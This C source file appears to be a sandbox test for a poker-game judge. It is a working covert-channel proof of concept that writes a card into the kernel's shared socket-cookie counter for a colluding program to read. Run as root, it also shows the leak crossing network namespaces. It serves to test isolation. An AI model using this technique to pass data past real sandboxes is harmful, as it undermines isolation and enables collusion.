/* socket_cookie_spy: writes its first card into the kernel's socket
 * cookies. getsockopt(SO_COOKIE) numbers a socket from per-CPU batches of
 * one machine-wide counter, which nothing else on a judge asks for: on CPU
 * 0 the next cookie is the last one plus one. The spy moves to CPU 0 and
 * asks for cookies of new sockets until the next one is 64 * k + code + 8;
 * socket_cookie_friend.c reads it in a later game. Prints "WROTE: code N".
 *
 * Unconfined (as root) it also proves the trick across namespaces: a child
 * in a new network namespace reads the next cookie and prints "ATTACK:
 * socket cookie read from another network namespace: code N". In the
 * sandbox a game may create no socket, ask no socket option (not even of
 * its channel) nor choose its CPU. Then plays round robin. */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include "poker.h"

#ifndef SO_COOKIE
#define SO_COOKIE 57
#endif

/* Shared with socket_cookie_friend.c. */
/* The channel (fd 3) is a socket too: its cookie, asked once. */
static void channel_cookie(void)
{
    uint64_t cookie = 0;
    socklen_t len = sizeof cookie;
    if (getsockopt(3, SOL_SOCKET, SO_COOKIE, &cookie, &len) == 0)
        fprintf(stderr, "ATTACK: cookie of the channel: %llu\n", (unsigned long long)cookie);
    else
        fprintf(stderr, "getsockopt of the channel: %s\n", strerror(errno));
}

/* Moves to CPU 0 and returns the cookie of a new socket, or 0. */
static uint64_t next_cookie(void)
{
    cpu_set_t cpu0;
    uint64_t cookie = 0;
    socklen_t len = sizeof cookie;
    int s;
    CPU_ZERO(&cpu0);
    CPU_SET(0, &cpu0);
    if (sched_setaffinity(0, sizeof cpu0, &cpu0) != 0)
        fprintf(stderr, "sched_setaffinity: %s\n", strerror(errno));
    s = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (s < 0) {
        fprintf(stderr, "socket: %s\n", strerror(errno));
        return 0;
    }
    cookie = 0;
    if (getsockopt(s, SOL_SOCKET, SO_COOKIE, &cookie, &len) != 0) {
        fprintf(stderr, "getsockopt SO_COOKIE: %s\n", strerror(errno));
        cookie = 0;
    }
    close(s);
    return cookie;
}

static void write_card(int code)
{
    uint64_t cookie;
    int steps = 0;
    pid_t child;
    channel_cookie();
    child = fork();
    if (child == 0) {
        uint64_t c;
        /* Sets the next cookie first, then reads it from elsewhere. */
        c = next_cookie();
        while (c != 0 && (c + 1) % 64 != (uint64_t)code + 8) c = next_cookie();
        if (unshare(CLONE_NEWNET) != 0) _exit(1);
        c = next_cookie();
        if (c % 64 == (uint64_t)code + 8)
            fprintf(stderr, "ATTACK: socket cookie read from another network namespace: code %d\n",
                    (int)(c % 64) - 8);
        _exit(0);
    }
    if (child > 0) waitpid(child, NULL, 0);
    /* The friend's cookie will be the last one plus one. */
    cookie = next_cookie();
    while (cookie != 0 && (cookie + 1) % 64 != (uint64_t)code + 8 && steps++ < 1000)
        cookie = next_cookie();
    fprintf(stderr, "WROTE: code %d (%d sockets)\n", code, steps);
}

int main(void)
{
    int i, v, c;
    p_startgame();
    for (i = 1; i <= 20; i++) {
        p_look(&v, &c);
        if (i == 1) write_card((v - 1) * 4 + (c - 1));
        p_place((i - 1) % 4 + 1);
    }
    return 0;
}
